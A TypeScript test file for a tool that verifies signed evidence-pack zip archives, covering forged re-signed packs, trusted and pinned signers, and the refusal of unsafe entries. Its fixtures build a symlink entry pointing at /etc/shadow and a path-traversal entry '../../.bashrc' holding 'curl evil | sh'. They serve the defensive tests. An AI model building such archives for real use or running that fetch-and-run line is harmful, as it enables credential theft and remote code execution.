import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { zipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { forgePack, freshSigner } from '../../../test-support/forge-pack';
import { makeTempDir, removeTempDirs } from '../../../test-support/temp-dir';
import { buildEvidencePack } from './build-pack';
import type { PackMeta } from './manifest';
import { verifyEvidencePack } from './verify-pack';
import { readZip } from './zip';

afterEach(removeTempDirs);

const text = (value: string) => new TextEncoder().encode(value);
const installation = freshSigner();
const meta: PackMeta = {
  siteName: 'Acme Dental',
  period: { from: '2026-10-01', to: '2026-10-31', timezone: 'Europe/Berlin' },
  generatedAt: '2026-11-02T09:00:00.000Z',
  generatedBy: 'ana',
  auditChainHead: { id: 7, hash: 'cd'.repeat(32) },
};

/** A genuine pack on disk, and a forged copy beside it whose assets.csv hides a host. */
function packsOnDisk() {
  const dir = makeTempDir();
  const genuine = join(dir, 'acme.zip');
  writeFileSync(genuine, buildEvidencePack({ files: [{ path: 'report.pdf', bytes: text('%PDF-1.7 report') }, { path: 'data/assets.csv', bytes: text('hostname,pending\nfs01,0\ndb01,83\n') }], meta }, installation));
  const forger = freshSigner();
  const forged = join(dir, 'acme-forged.zip');
  writeFileSync(forged, forgePack(readFileSync(genuine), 'data/assets.csv', text('hostname,pending\nfs01,0\ndb01,0\n'), forger));
  return { dir, genuine, forged, forger };
}

/** Rewrites a genuine pack on disk with one extra entry added by hand. */
function withExtraEntry(dir: string, genuine: string, name: string, entry: Parameters<typeof zipSync>[0][string]): string {
  const files: Parameters<typeof zipSync>[0] = Object.fromEntries(readZip(readFileSync(genuine)).map((each) => [each.path, each.bytes]));
  files[name] = entry;
  const path = join(dir, 'edited.zip');
  writeFileSync(path, zipSync(files));
  return path;
}

describe('verifying packs read from disk', () => {
  it('fails a pack whose assets.csv was altered and re-signed with a fresh key, naming the signer', () => {
    const { forged, forger } = packsOnDisk();
    const result = verifyEvidencePack(readFileSync(forged), { installationFingerprint: installation.fingerprint });
    expect(result.files.every((file) => file.status === 'ok')).toBe(true);
    expect(result).toMatchObject({ ok: false, signatureValid: true, fingerprint: forger.fingerprint, trust: { kind: 'unknown' } });
    expect(result.problems).toEqual([{ file: 'manifest.sig', problem: 'unknown_signer', detail: expect.stringContaining(`signed by an unknown key ${forger.fingerprint}`) }]);
    expect(result.problems[0]?.detail).toContain(`patchdesk evidence trust add ${forger.fingerprint} --name NAME`);
  });

  it('passes the same pack once its key is trusted or pinned, and the genuine one as this installation’s', () => {
    const { genuine, forged, forger } = packsOnDisk();
    expect(verifyEvidencePack(readFileSync(forged), { installationFingerprint: installation.fingerprint, trustedSigners: [{ fingerprint: forger.fingerprint, name: 'Northwind Berlin' }] })).toMatchObject({ ok: true, problems: [], trust: { kind: 'trusted_signer', name: 'Northwind Berlin' } });
    expect(verifyEvidencePack(readFileSync(forged), { pinnedFingerprint: forger.fingerprint })).toMatchObject({ ok: true, trust: { kind: 'pinned' } });
    expect(verifyEvidencePack(readFileSync(genuine), { installationFingerprint: installation.fingerprint })).toMatchObject({ ok: true, trust: { kind: 'installation' } });
    expect(verifyEvidencePack(readFileSync(genuine), {})).toMatchObject({ ok: false, trust: { kind: 'unknown' } });
  });

  it('refuses a symbolic link entry and a traversal entry, naming the entry', () => {
    const { dir, genuine } = packsOnDisk();
    const link = withExtraEntry(dir, genuine, 'data/hosts.csv', [text('/etc/shadow'), { os: 3, attrs: (0o120777 << 16) >>> 0 }]);
    expect(verifyEvidencePack(readFileSync(link), { installationFingerprint: installation.fingerprint, packName: 'edited.zip' }).problems).toEqual([
      { file: 'edited.zip', problem: 'not_a_pack', detail: 'edited.zip is not a readable evidence pack: it holds the entry "data/hosts.csv", which is refused: it is a symbolic link, not a regular file' },
    ]);
    const traversal = withExtraEntry(dir, genuine, '../../.bashrc', text('curl evil | sh'));
    expect(verifyEvidencePack(readFileSync(traversal), { packName: 'edited.zip' }).problems).toEqual([
      { file: 'edited.zip', problem: 'not_a_pack', detail: 'edited.zip is not a readable evidence pack: it holds an unsafe entry name "../../.bashrc": it climbs out of the pack with ".."' },
    ]);
  });
});
